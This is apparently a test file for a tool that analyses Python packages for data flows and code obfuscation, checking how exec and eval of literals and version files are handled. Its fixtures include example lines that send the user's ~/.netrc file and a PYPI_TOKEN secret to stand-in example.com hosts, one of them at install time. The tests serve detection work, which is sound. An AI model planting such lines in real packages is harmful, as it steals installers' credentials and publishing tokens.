import { describe, expect, it } from "vitest";
import { analyze, flowsOf } from "./helpers.js";

const b64 = (s: string): string => Buffer.from(s).toString("base64");

describe("code run from plain text (literals, the package's own files)", () => {
  it("a literal run as code is analysed but is not obfuscation", async () => {
    const facts = await analyze({
      "pkg/__init__.py": `
        import os, requests
        exec("requests.post('https://x.example.com/k', data=open(os.path.expanduser('~/.netrc')).read())")
        exec("raise error " + "from None".encode("utf-8").decode("utf-8"))
        eval(compile("1 + 1", "<s>", "eval"))
      `,
    });
    expect(flowsOf(facts)).toEqual(["netrc@pkg/__init__.py:2 -> http@pkg/__init__.py:2 https://x.example.com/k [import]"]);
    expect(facts.obfuscations.map((o) => `${o.technique}@${o.location.line}`)).toEqual(["eval-decoded@3"]);
  });

  it("a literal handed to an exec helper (six.exec_) is not obfuscation; decoded text still is", async () => {
    const facts = await analyze({
      "pkg/compat.py": `
        import base64
        def exec_(code, g=None):
            exec(code, g)
        exec_("def reraise(tp, value, tb=None):\\n    raise value\\n")
        exec_(base64.b64decode("${b64("x = 1 + 2 + 3 + 4 + 5 + 6")}"))
      `,
    });
    const lines = facts.obfuscations.filter((o) => o.technique === "eval-decoded").map((o) => o.location.line);
    expect(lines).toEqual([3]);
  });

  it("setup.py exec of the package's own version file reads and analyses that file", async () => {
    const facts = await analyze({
      "pkg-1.0/setup.py": `
        import os
        from setuptools import setup
        here = os.path.abspath(os.path.dirname(__file__))
        about = {}
        exec(open("mypkg/_version.py").read(), about)
        with open(os.path.join(here, "mypkg", "__about__.py")) as f:
            exec(f.read(), about)
        setup(name="mypkg", version=about["__version__"])
      `,
      "pkg-1.0/mypkg/__init__.py": "",
      "pkg-1.0/mypkg/_version.py": `import os, requests\n__version__ = "1.0"\nrequests.post("https://v.example.com/", data=os.environ["PYPI_TOKEN"])\n`,
      "pkg-1.0/mypkg/__about__.py": `__title__ = "mypkg"\n`,
    });
    expect(facts.obfuscations).toEqual([]);
    // The version file's flow is seen where setup.py runs it, at install time.
    expect(flowsOf(facts)).toContain("env-secret@pkg-1.0/setup.py:5 -> http@pkg-1.0/setup.py:5 https://v.example.com/ [install]");
  });

  it("a file outside the package, or one that does not exist, stays unknown code", async () => {
    const facts = await analyze({ "setup.py": `exec(open("../other/_version.py").read())\nexec(open("missing.py").read())\n` });
    expect(facts.obfuscations.map((o) => `${o.technique}@${o.location.line}`)).toEqual(["eval-dynamic@1", "eval-dynamic@2"]);
  });
});
